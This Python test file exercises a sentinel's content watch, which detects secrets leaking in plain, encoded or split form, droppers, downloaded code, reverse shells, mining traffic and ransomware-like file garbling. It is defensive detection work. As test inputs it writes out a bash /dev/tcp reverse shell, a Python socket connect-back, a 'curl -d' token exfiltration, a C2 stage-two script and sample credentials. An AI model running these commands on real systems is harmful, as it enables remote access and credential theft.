"""The content watch: secrets learnt from reads, found again (plain, encoded, split) going out."""

from __future__ import annotations

import base64
import json

from sentinel_fixtures import AWS, ENV, SSH_KEY, event, traced_lines

from frankenengine.sentinel.content import PENDING_SAMPLE_CHARS, ContentWatch

API = "http://127.0.0.1:8080"
TOKEN = "ghp_Zq81nVbX4LmT0pRs7WcY2eKd9HfJ3aUo"


def _learn(watch, function, target, text):
    return watch.learn(event(function, target), text)


def _watch_with_key() -> ContentWatch:
    watch = ContentWatch()
    assert _learn(watch, "fs.read_text", "/home/u/.ssh/id_rsa", SSH_KEY) > 0
    return watch


def _post(watch, body="", url=f"{API}/u", headers=None, seq=1):
    return watch.inspect(
        event("net.post", url, seq=seq), {"url": url, "body": body, "headers": headers}
    )


def test_a_key_sent_as_is_is_a_plain_leak():
    watch = _watch_with_key()
    seen = _post(watch, body="key=" + SSH_KEY)
    assert (seen.leak, seen.channel) == ("plain", "body")


def test_one_line_of_the_key_is_enough():
    watch = _watch_with_key()
    line = SSH_KEY.splitlines()[2]
    assert _post(watch, body=f'{{"x": "{line}"}}').leak == "plain"


def test_encoded_and_reversed_secrets_are_found():
    watch = ContentWatch()
    _learn(watch, "env.get", "GITHUB_TOKEN", TOKEN)
    b64 = base64.b64encode(("token=" + TOKEN).encode()).decode()
    url_safe = base64.urlsafe_b64encode(TOKEN.encode()).decode().rstrip("=")
    assert _post(watch, body=b64).leak == "encoded"
    assert _post(watch, url=f"{API}/t?q={url_safe}").leak == "encoded"
    assert _post(watch, body=TOKEN.encode().hex()).leak == "encoded"
    assert _post(watch, body=TOKEN[::-1]).leak == "encoded"
    assert _post(watch, url=f"{API}/t?q=" + "".join(f"%{ord(c):02x}" for c in TOKEN)).leak


def test_a_secret_split_over_calls_to_one_destination_is_found():
    watch = ContentWatch()
    _learn(watch, "env.get", "AWS_SECRET_ACCESS_KEY", TOKEN)
    kinds = []
    for i in range(0, len(TOKEN), 3):  # three characters per request, in the query
        kinds.append(_post(watch, url=f"{API}/c?d={TOKEN[i : i + 3]}", seq=i).leak)
    assert kinds[0] == "" and "split" in kinds
    assert kinds.index("split") <= len(TOKEN) // 3 // 2 + 2  # found by about half of it


def test_secrets_in_files_that_are_not_secret_files():
    watch = ContentWatch()
    assert (
        _learn(watch, "fs.read_text", "/srv/app/config.yaml", "db:\n  password: Tr0ub4dor&3xyz\n")
        == 1
    )
    assert _learn(watch, "fs.read_text", "/srv/app/notes.txt", "nothing to see here at all\n") == 0
    assert _post(watch, body="pw Tr0ub4dor&3xyz").leak == "plain"


def test_cloud_credentials_and_dotenv_are_learnt():
    watch = ContentWatch()
    assert _learn(watch, "fs.read_text", "/home/u/.aws/credentials", AWS) >= 2
    assert _learn(watch, "fs.read_text", "/srv/app/.env", ENV) >= 1
    assert _post(watch, body="wJa9Xr/K7MDENG+bPxRfiCYz3Q1e8Tb4LvN6sHd2").leak == "plain"
    assert _post(watch, body="pw: Hunter2Secret!").leak == "plain"  # the password of a URL


def test_a_token_in_an_authorization_header_is_an_auth_channel():
    watch = ContentWatch()
    _learn(watch, "env.get", "API_TOKEN", TOKEN)
    seen = _post(watch, headers={"Authorization": "Bearer " + TOKEN})
    assert (seen.leak, seen.channel) == ("plain", "auth")
    seen = _post(watch, headers={"X-Debug": TOKEN})
    assert (seen.leak, seen.channel) == ("plain", "header")


def test_unrelated_data_is_not_a_leak():
    watch = _watch_with_key()
    _learn(watch, "env.get", "GITHUB_TOKEN", TOKEN)
    assert _post(watch, body="hello world " * 200).leak == ""
    assert _post(watch, body=base64.b64encode(b"some other data entirely").decode()).leak == ""
    assert _post(watch, body="-----BEGIN OPENSSH PRIVATE KEY-----").leak == ""


def test_nothing_learnt_from_harmless_sources():
    watch = ContentWatch()
    assert _learn(watch, "env.get", "PATH", "/usr/bin:/bin:/usr/local/bin") == 0
    assert _learn(watch, "fs.read_text", "/srv/data/a.csv", "x,y\n1,2\n") == 0
    assert not watch.secrets


def test_secrets_written_to_a_file_or_passed_to_a_process():
    watch = ContentWatch()
    _learn(watch, "env.get", "GITHUB_TOKEN", TOKEN)
    write = watch.inspect(event("fs.write_text", "/srv/out/t"), {"path": "t", "text": TOKEN})
    assert (write.leak, write.channel) == ("plain", "write")
    run = watch.inspect(event("proc.run", "/usr/bin/curl"), {"argv": ["curl", "-d", TOKEN]})
    assert (run.leak, run.channel) == ("plain", "argv")


def test_dropper_running_what_it_wrote():
    watch = ContentWatch()
    watch.inspect(event("fs.write_text", "/srv/out/stage.sh"), {"path": "stage.sh", "text": "x"})
    runs = watch.inspect(event("proc.run", "/bin/sh"), {"argv": ["/bin/sh", "./stage.sh"]})
    other = watch.inspect(event("proc.run", "/bin/sh"), {"argv": ["/bin/sh", "-c", "true"]})
    assert runs.dropped and not other.dropped


def test_observation_json_round_trip():
    watch = _watch_with_key()
    seen = _post(watch, body=SSH_KEY)
    assert type(seen).from_json(seen.to_json()) == seen


def _scan_big_texts(size: int) -> None:
    """Learn texts of about `size` characters (and a token), then inspect 4x bigger posts."""
    watch = ContentWatch()
    _learn(watch, "fs.read_text", "/srv/data/big.txt", "x" * size)
    _learn(watch, "fs.read_text", "/srv/data/big.txt", "token" * (size // 4))
    _learn(watch, "fs.read_text", "/home/u/.ssh/id_rsa", SSH_KEY + "A" * size)
    _learn(watch, "env.get", "GITHUB_TOKEN", TOKEN)
    assert _post(watch, body="y" * (4 * size)).leak == ""
    assert _post(watch, body="z" * (4 * size) + TOKEN).leak == "plain"  # the tail is scanned


def test_large_texts_are_scanned():
    _scan_big_texts(1 << 20)


def test_scanning_is_linear_in_the_text():
    """Four times the text, at most about four times the work: Python lines run (a count,
    the same on any machine; benchmarks/test_sentinel.py times the same scan). A scan
    quadratic in the text would run 16 times the lines."""
    small = traced_lines(lambda: _scan_big_texts(1 << 16))
    large = traced_lines(lambda: _scan_big_texts(1 << 18))
    assert large <= 5 * small, (small, large)


def _run(watch, argv, stdin="", target=None):
    return watch.inspect(event("proc.run", target or argv[0]), {"argv": argv, "input": stdin})


def _write(watch, path, text, operation="fs.write_text"):
    return watch.inspect(event(operation, path), {"path": path, "text": text})


def test_inline_code_and_code_that_connects():
    watch = ContentWatch()
    assert _run(watch, ["/usr/bin/cc", "-c", "main.c"]).spawn == ""  # -c of a compiler
    assert _run(watch, ["/bin/sh", "-c", "ls | wc -l"]).spawn == "inline"
    shell = "exec python3 -c \"import socket;s=socket.create_connection(('10.0.0.1',4444))\""
    assert _run(watch, ["/bin/sh", "-c", shell]).spawn == "connect"
    assert _run(watch, ["/bin/bash"], stdin="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").spawn == (
        "connect"
    )
    _write(watch, "/srv/out/hook.py", "import urllib.request\nurllib.request.urlopen('http://x')\n")
    seen = _run(watch, ["/usr/bin/python3", "out/hook.py"])
    assert (seen.spawn, seen.dropped) == ("connect", True)


def test_code_that_uses_the_host_os_is_an_escape():
    watch = ContentWatch()
    helper = "import os\nwith open('ran.marker', 'w') as f:\n    f.write(str(os.getuid()))\n"
    _write(watch, "/srv/out/render_helper.py", helper)
    seen = _run(watch, ["/usr/bin/python3", "out/render_helper.py"])
    assert (seen.spawn, seen.dropped) == ("escape", True)
    assert _run(watch, ["/usr/bin/python3", "-c", "import subprocess"]).spawn == "escape"
    assert _run(watch, ["/usr/bin/node", "-e", "require('child_process')"]).spawn == "escape"
    assert _run(watch, ["/bin/sh", "-c", "whoami > who.txt"]).spawn == "escape"
    _write(watch, "/srv/out/build.sh", "#!/bin/sh\nset -e\necho building\nwc -l a.c > n.txt\n")
    build = _run(watch, ["/bin/sh", "out/build.sh"])
    assert (build.spawn, build.dropped) == ("", True)  # a plain build script
    assert _run(watch, ["/usr/bin/python3", "-c", "print(sum(range(9)))"]).spawn == "inline"


def test_mining_vocabulary_going_out_is_seen():
    watch = ContentWatch()
    assert _post(watch, body=json.dumps({"nonce": 48213, "job": "j7"})).share
    assert _post(watch, url=f"{API}/submit?job=j7&nonce=0x1f3a").share
    assert _post(watch, body='{"method": "mining.submit", "params": ["w", "j", "00"]}').share
    assert not _post(watch, body=json.dumps({"checksum": 48213, "rounds": 10})).share
    assert not _post(watch, body="a nonce is a number used once").share


def test_downloaded_code_that_runs():
    watch = ContentWatch()
    stage = "#!/bin/sh\necho stage two running here\nid > /tmp/owned.marker\n"
    watch.learn(event("net.get", "http://127.0.0.1:8080/c2/stage2"), stage)
    _write(watch, "/srv/cache/.stage2", stage)
    assert _run(watch, ["/bin/sh", "cache/.stage2"]).spawn == "fetched"
    assert _run(watch, ["/bin/sh"], stdin=stage).spawn == "fetched"  # curl | sh
    _write(watch, "/srv/out/build.sh", "#!/bin/sh\necho building the sources\nwc -l src/*\n")
    local = _run(watch, ["/bin/sh", "out/build.sh"])
    assert (local.spawn, local.dropped) == ("", True)  # written here, not downloaded


def test_garbling_a_file_it_read():
    watch = ContentWatch()
    doc = "The quarterly report lists revenue, costs and the outlook for every region.\n" * 3
    _learn(watch, "fs.read_text", "/srv/docs/report.md", doc)
    assert _write(watch, "/srv/docs/report.md", doc.upper().lower()).garbled is False  # an edit
    assert _write(watch, "/srv/docs/report.md", "#" * len(doc)).garbled  # filler
    assert _write(watch, "/srv/docs/report.md.locked", doc.encode().hex()).garbled  # encrypted
    assert not _write(watch, "/srv/docs/report.md", "").garbled  # a truncation
    assert not _write(watch, "/srv/docs/other.md", "#" * len(doc)).garbled  # never read


def test_files_read_long_before_a_write_are_still_recognised():
    """Word samples are taken lazily (when a write needs them, or when too much read text
    waits): a file read before a megabyte of other reads is still recognised when garbled."""
    watch = ContentWatch()
    doc = "The quarterly report lists revenue, costs and the outlook for every region.\n" * 3
    _learn(watch, "fs.read_text", "/srv/docs/report.md", doc)
    filler = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod\n" * 1000
    for i in range(16):  # 16 x 70,000 characters: far more than are kept waiting
        _learn(watch, "fs.read_text", f"/srv/logs/{i}.log", filler)
    _learn(watch, "fs.read_text", "/srv/docs/report.md", doc)  # read again: one sample, kept
    assert watch._unsampled_chars <= PENDING_SAMPLE_CHARS
    assert _write(watch, "/srv/docs/report.md", "#" * len(doc)).garbled
    assert not _write(watch, "/srv/docs/report.md", doc.replace("costs", "expenses")).garbled


def test_a_file_copied_before_it_is_removed_is_saved():
    watch = ContentWatch()
    doc = "alpha beta gamma delta epsilon zeta eta theta\n"
    _learn(watch, "fs.read_text", "/srv/docs/a.md", doc)
    _learn(watch, "fs.read_text", "/srv/docs/b.md", "one two three four five six\n")
    _write(watch, "/srv/backup/a.md", doc)
    assert _write(watch, "/srv/docs/a.md", "", "fs.remove").saved
    assert not _write(watch, "/srv/docs/b.md", "", "fs.remove").saved


def test_credential_file_names_from_listings_going_out():
    watch = ContentWatch()
    watch.learn(event("fs.list_dir", "/home/u"), "\n".join([".bashrc", ".ssh", ".aws", "notes"]))
    watch.learn(event("fs.list_dir", "/home/u/.ssh"), "\n".join(["config", "id_rsa"]))
    seen = _post(watch, body=json.dumps({"home": [".ssh", ".aws", "id_rsa"]}))
    assert (seen.leak, seen.channel) == ("listing", "body")
    other = ContentWatch()
    other.learn(event("fs.list_dir", "/home/u"), "\n".join([".ssh", ".aws"]))
    assert _post(other, body="projects: notes, todo").leak == ""
    names = base64.b64encode(b'[".ssh", ".aws"]').decode()
    assert _post(other, body=names).leak == "listing"  # encoded
    written = other.inspect(event("fs.write_text", "/srv/out/du.txt"), {"text": ".ssh .aws"})
    assert written.leak == ""  # only what goes over the network counts
